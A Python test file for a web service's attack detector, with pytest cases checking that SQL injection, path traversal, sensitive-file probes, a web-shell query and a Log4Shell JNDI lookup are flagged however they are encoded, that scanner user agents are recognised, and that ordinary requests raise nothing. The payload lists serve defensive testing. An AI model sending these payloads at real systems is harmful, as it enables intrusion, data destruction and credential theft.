"""What looks like an attack is told from what anybody of ours sends."""

from __future__ import annotations

from urllib.parse import quote, quote_plus, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from risk_policy.vocabulary import Severity
from risk_receivers.access import NEEDS, OPEN
from risk_receivers.security.signs import Sign, signs_in

BROWSER = (
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"Chrome/126.0.0.0 Safari/537.36"
)
#: As those who ask us say of themselves.
AGENTS = [
    BROWSER,
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    b"Prometheus/2.42.0+ds",
    b"Prometheus/3.5.0",
    b"Alertmanager/0.25.0",
    b"Grafana/12.0.1",
    b"curl/7.88.1",
    b"Wget/1.21.3",
    b"python-httpx/0.27.0",
    b"python-requests/2.32.3",
    b"Python-urllib/3.11",
    b"kube-probe/1.30",
    b"Go-http-client/1.1",
    b"Slackbot 1.0 (+https://api.slack.com/robots)",
    b"riskwarden/1.0",
    b"",
]
#: As they are sent, decoded: (sign, path, query).
ATTACKS = [
    (Sign.SQL_INJECTION, "/api/v1/alerts", "id=1' OR '1'='1"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", "id=1' or 1=1-- -"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", "id=1 OR 1=1"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", "name=admin'--"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", "name=admin' #"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", "id=') or ('a'='a"),
    (Sign.SQL_INJECTION, "/api/v1/alerts", 'id=" or "a"="a'),
    (Sign.SQL_INJECTION, "/api/v1/audit", "text=1 UNION ALL SELECT name,password FROM person"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "text=1/**/union/**/select/**/1,2,3"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "text=x'; DROP TABLE incident; --"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=1;delete from person"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=1 AND SLEEP(5)"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=1;select pg_sleep(5)"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=1; WAITFOR DELAY '0:0:5'"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=(select sql from sqlite_master)"),
    (Sign.SQL_INJECTION, "/api/v1/audit", "actor=extractvalue(1,concat(0x7e,version()))"),
    (Sign.SQL_INJECTION, "/api/v1/users/x' or 'x'='x", ""),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports/../../etc/passwd", ""),
    (Sign.PATH_TRAVERSAL, "/../../../../etc/shadow", ""),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports/..", ""),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports/..\\..\\windows\\win.ini", ""),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports", "file=../../alerting.toml"),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports", "file=/etc/passwd"),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports/x.pdf\x00.html", ""),
    (Sign.PATH_TRAVERSAL, "/static/....//....//etc/hosts", ""),
    (Sign.PATH_TRAVERSAL, "/api/v1/reports", "file=/proc/self/environ"),
    (Sign.PROBE, "/.env", ""),
    (Sign.PROBE, "/.git/config", ""),
    (Sign.PROBE, "//.aws/credentials", ""),
    (Sign.PROBE, "/wp-login.php", ""),
    (Sign.PROBE, "/xmlrpc.php", ""),
    (Sign.PROBE, "/phpMyAdmin/index.php", ""),
    (Sign.PROBE, "/cgi-bin/luci", ""),
    (Sign.PROBE, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
    (Sign.PROBE, "/actuator/env", ""),
    (Sign.PROBE, "/shell.php", "cmd=id"),
    (Sign.PROBE, "/login.aspx", ""),
    (Sign.PROBE, "/", "x=${jndi:ldap://203.0.113.9/a}"),
]


@pytest.mark.parametrize(("sign", "path", "query"), ATTACKS)
def test_an_attack_is_seen_however_it_is_encoded(sign: Sign, path: str, query: str) -> None:
    name, _, value = query.partition("=")
    ways = [
        (path, query),
        (quote(path), f"{name}={quote(value)}"),
        (quote(path), f"{name}={quote_plus(value)}"),
        (quote(quote(path)), f"{name}={quote(quote(value, safe=''), safe='')}"),
        ("".join(f"%{ord(c):02x}" if c != "/" else c for c in path), f"{name}={quote(value)}"),
    ]
    for way, asked in ways:
        assert sign in signs_in(way.encode(), asked.encode(), BROWSER), (way, asked)


@pytest.mark.parametrize(
    "agent",
    [
        b"sqlmap/1.8.4#stable (https://sqlmap.org)",
        b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        b"Mozilla/5.0 zgrab/0.x",
        b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        b"gobuster/3.6",
        b"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        b"Fuzz Faster U Fool v2.1.0 ffuf/2.1.0",
    ],
)
def test_a_scanner_that_says_so_is_believed(agent: bytes) -> None:
    assert signs_in(b"/", b"", agent) == (Sign.SCANNER,)


def test_a_lookup_in_the_agent_is_a_probe() -> None:
    assert signs_in(b"/healthz", b"", b"${jndi:ldap://203.0.113.9/a}") == (Sign.PROBE,)


#: As parts of the API have them.
NAMES = st.text("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789_.-", min_size=1, max_size=20).filter(
    lambda text: text.strip(".") != ""
)
IDS = st.builds(
    "{}/{}:{}:{}".format,
    NAMES,
    NAMES,
    st.sampled_from(["warning", "critical", "emergency", "none"]),
    st.integers(0, 10**6),
)
#: As people write comments, with all that PromQL and matchers hold.
PROMQL = st.sampled_from(
    [
        'risk_value{limit="drawdown",tier=~"warning|critical"} > 0.1',
        'sum by (account) (rate(risk_orders_total{venue!="a"}[5m])) or vector(0)',
        'up == 0 and on (job) risk_value{account=""} == 1',
        "risk_value{account='main'} or risk_value{account='other'}",
        'max_over_time(x{a=~".+"}[1h:10m]) unless y{b!~"a|b"} offset 5m',
        '{alertname="DRAWDOWN_CRITICAL",risk_id=~"drawdown/.*"}',
        'risk_id=~"(drawdown|var)/main"',
        "1 == 1 or 2 != 2",
        "-x{a='b'} -- 1",
        "it's done; I'll update the table of limits and select one from the list - ok?",
        "Who dropped it? He said: 'or not', and left... see 10.0.0.1/24, v1..v2",
        "drawdown > 5% & var < 2% (order by size; insert later)",
        "2026-03-02T15:00:00+00:00",
        "https://desk.example.com/api/v1/alerts?open=true#top",
    ]
)
TEXTS = st.one_of(IDS, PROMQL, NAMES, st.sampled_from([*Severity]), st.integers(0).map(str))


def paths() -> st.SearchStrategy[str]:
    """Every endpoint there is, with ids in it."""

    def filled(what: str, subject: str) -> str:
        path = what.partition(" ")[2]
        for part in ("{id}", "<incident:incident>", "<silence>", "<report>", "<int:seq>", "<name>"):
            path = path.replace(part, subject)
        return path.replace("<alertname>", subject)

    subjects = st.one_of(IDS.map(lambda one: quote(one, safe="")), IDS.map(quote), NAMES)
    return st.builds(filled, st.sampled_from(sorted({*NEEDS, *OPEN})), subjects)


@given(
    paths(),
    st.dictionaries(NAMES, TEXTS, max_size=5),
    st.sampled_from(AGENTS),
    st.booleans(),
)
def test_what_ordinary_requests_hold_raises_nothing(
    path: str, query: dict[str, str], agent: bytes, plus: bool
) -> None:
    asked = urlencode(query, quote_via=quote_plus if plus else quote)
    assert signs_in(path.encode(), asked.encode(), agent) == ()


@given(st.binary(max_size=6000), st.binary(max_size=6000), st.binary(max_size=600))
def test_whatever_comes_is_looked_through(path: bytes, query: bytes, agent: bytes) -> None:
    assert isinstance(signs_in(path, query, agent), tuple)
